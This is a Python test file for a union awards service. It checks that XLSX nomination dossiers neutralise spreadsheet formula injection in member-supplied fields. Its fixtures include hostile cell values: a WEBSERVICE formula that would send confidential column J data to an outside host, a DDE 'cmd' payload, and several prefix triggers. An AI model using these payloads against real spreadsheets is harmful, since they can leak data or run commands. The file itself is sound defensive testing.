"""Formula injection: no spreadsheet the platform writes for people holds a formula, whatever members typed."""

from __future__ import annotations

import io
import uuid
from datetime import UTC, datetime
from typing import Any

import httpx
from openpyxl import load_workbook

from services.awards.adapters.dossier_files import Dossier, DossierRow, render_xlsx
from services.awards.bootstrap import AwardsService
from services.awards.domain.case import case_id_for
from services.submission import MIGRATIONS_DIR as SUBMISSION_MIGRATIONS
from services.submission.app import create_app as create_submission_app
from shared.auth import issue_token
from shared.db import upgrade_database_async
from shared.events import InitiativeSubmitted
from shared.settings import Settings
from shared.union_tree import get_tree

from .builders import act, awards_api, campaign_event, feed, initiative_event, ok, reviewer

HOSTILE = ['=WEBSERVICE("https://x"&J4)', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(data: bytes) -> list[Any]:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


def _assert_no_formula(data: bytes, expected: list[str]) -> None:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert "'" + value in texts, value  # the visible text is kept after the quote


async def test_dossier_xlsx_over_http_holds_no_formula(settings: Settings) -> None:
    unit = get_tree().grassroots_ids()[0]
    path = get_tree().path(unit)
    hostile = HOSTILE[:4]  # the submission API strips a leading tab or CR: those go through render_xlsx below
    submission_settings = settings.model_copy(update={"run_relay": False})
    await upgrade_database_async(SUBMISSION_MIGRATIONS, submission_settings.submission_db_url)
    submission = create_submission_app(submission_settings)
    member = {"Authorization": "Bearer " + issue_token(subject="m-hostile", role="member")}
    async with submission.router.lifespan_context(submission), httpx.AsyncClient(
        transport=httpx.ASGITransport(app=submission), base_url="http://submission",
    ) as submission_client:
        created = []
        for n, value in enumerate(hostile):
            body = {"campaign_id": "demo", "unit_id": unit, "field": "san_xuat_kinh_doanh", "title": value,
                    "description": value, "effectiveness_summary": value, "benefit_vnd": 1_000_000 + n,
                    "confidential": True, "confidential_details": value,
                    "authors": [{"name": value, "share_percent": 100}]}
            created.append(await ok(submission_client.post("/v1/initiatives", json=body, headers=member)))
        async with awards_api(settings) as (app, client):
            service: AwardsService = app.state.awards
            service.submission_transport = httpx.ASGITransport(app=submission)
            await feed(service, campaign_event(), *(
                initiative_event(InitiativeSubmitted, initiative_id=uuid.UUID(c["id"]), path=path,
                                 title=c["title"], confidential=True) for c in created))
            for c in created:
                case_id = case_id_for(uuid.UUID(c["id"]))
                await ok(act(client, case_id, "recognise", reviewer(unit)))
                await ok(act(client, case_id, "nominate", reviewer(unit)))
            response = await client.get("/v1/exports/nominations", headers=reviewer(path[2]),
                                        params={"unit_id": unit, "format": "xlsx"})
            assert response.status_code == 200, response.text
    _assert_no_formula(response.content, hostile)
    rows = [list(r) for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]
    assert sorted(r[1] for r in rows[3:]) == sorted("'" + v for v in hostile)  # title
    assert sorted(r[9] for r in rows[3:]) == sorted("'" + v for v in hostile)  # confidential details (column J)


def test_dossier_xlsx_neutralises_every_trigger_and_keeps_plain_text() -> None:
    rows = tuple(DossierRow(
        title=value, authors=value, unit_name="Công đoàn cơ sở", field=value, description=value,
        effectiveness=value, benefit_vnd=-5, score=None, confidential_details=value, to_unit_name="LĐLĐ tỉnh",
    ) for value in HOSTILE)
    dossier = Dossier(unit_id="P24-01-001", unit_name="=cmd|' /C calc'!A0", parent_name="LĐLĐ",
                      campaign_name="Đợt 2021", made_at=datetime(2021, 4, 21, tzinfo=UTC), rows=rows)
    data = render_xlsx(dossier)
    _assert_no_formula(data, HOSTILE)
    values = [c.value for c in _cells(data)]
    assert "Công đoàn cơ sở" in values and -5 in values  # plain text and numbers stay as they were
